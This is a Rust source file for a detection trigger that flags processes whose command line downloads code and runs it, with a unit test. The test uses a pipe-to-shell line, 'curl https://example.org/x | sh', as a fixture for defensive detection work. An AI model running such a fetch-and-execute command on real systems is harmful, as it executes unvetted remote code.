//! A trigger: fires where a command line downloads something and runs it, once a process.
//!
//! A row that it doesn't name is decided with no. What can't be decided is told as undecided: a
//! verdict is never made up.

use serde::Deserialize;
use weir_guest::{
    Batch, EvalError, Firing, Guest, Mask, Needle, Priority, Recent, Trigger, Undecided, Verdicts,
    Wants,
};

// The columns that it reads; any other is refused.
weir_guest::columns! {
    process {
        pid: u32,
        start_time: timestamp,
        name: text,
        command_line: texts,
        accessible: boolean,
    }
}

/// The place of its one rule among those that `wants` names.
const RULE: u32 = 0;

/// What a slot's settings may say; the defaults are in `settings.json`.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Settings {
    /// Texts; an argument that contains one fires.
    needles: Vec<String>,
    /// How many processes are remembered, so that each is told once.
    remembered_max: usize,
}

struct Downloads {
    needles: Vec<Needle>,
    told: Recent<(u32, i64), ()>,
}

impl Downloads {
    fn verdicts(&mut self, columns: &process::Columns) -> Verdicts {
        let mut found = Mask::none(columns.rows);
        for needle in &self.needles {
            needle.mark_lists(&columns.command_line, &mut found);
        }
        let mut verdicts = Verdicts {
            firings: Vec::new(),
            undecided: Vec::new(),
        };
        for row in columns.rows() {
            let fires = found.get(row.index());
            let unknown = row.accessible() == Some(false);
            if !(fires || unknown) || !self.is_first(row) {
                continue;
            }
            if fires {
                let name = row.name().unwrap_or("a process");
                verdicts.firings.push(Firing {
                    row: row.number(),
                    rule: RULE,
                    message: Some(format!("{name} runs what it downloads")),
                });
            } else {
                verdicts.undecided.push(Undecided {
                    row: row.number(),
                    rule: RULE,
                    part: "command_line".to_owned(),
                    reason: "the process could not be read".to_owned(),
                });
            }
        }
        verdicts
    }

    /// Whether it is the first time for that process: pids are used again, so that the start time
    /// belongs to its name.
    fn is_first(&mut self, row: process::Row<'_>) -> bool {
        let (Some(pid), Some(start_time)) = (row.pid(), row.start_time()) else {
            return true;
        };
        let key = (pid, start_time);
        if self.told.get(key).is_some() {
            return false;
        }
        self.told.insert(key, ());
        true
    }
}

impl Guest for Downloads {
    type Settings = Settings;
    const DEFAULTS: &'static str = include_str!("../settings.json");

    fn new(settings: Settings) -> Result<Self, String> {
        if settings.needles.iter().any(String::is_empty) {
            return Err("settings: needles: an empty text is in every command line".to_owned());
        }
        Ok(Self {
            needles: settings
                .needles
                .iter()
                .map(|text| Needle::new(text))
                .collect(),
            told: Recent::new(settings.remembered_max),
        })
    }

    fn wants(&self) -> Wants {
        process::wants().rule("downloads-and-runs", Priority::High)
    }
}

impl Trigger for Downloads {
    fn evaluate(&mut self, batch: &Batch<'_>) -> Result<Verdicts, EvalError> {
        Ok(self.verdicts(&process::Columns::fetch(batch)?))
    }
}

weir_guest::export!(trigger Downloads);

#[cfg(test)]
mod tests {
    use super::*;
    use weir_guest::{BoolColumn, FixedColumn, TextColumn, TextListColumn, settings};

    #[test]
    fn it_fires_once_a_process() {
        let mut guest = Downloads::new(settings(Downloads::DEFAULTS, "").unwrap()).unwrap();
        let line: &[&str] = &["sh", "-c", "curl https://example.org/x | sh"];
        let columns = process::Columns {
            rows: 1,
            pid: FixedColumn::of(&[Some(7)]),
            start_time: FixedColumn::of(&[Some(1)]),
            name: TextColumn::of(&[Some("sh")]),
            command_line: TextListColumn::of(&[Some(line)]),
            accessible: BoolColumn::of(&[Some(true)]),
        };
        assert_eq!(guest.verdicts(&columns).firings.len(), 1);
        assert_eq!(guest.verdicts(&columns).firings.len(), 0);
    }
}
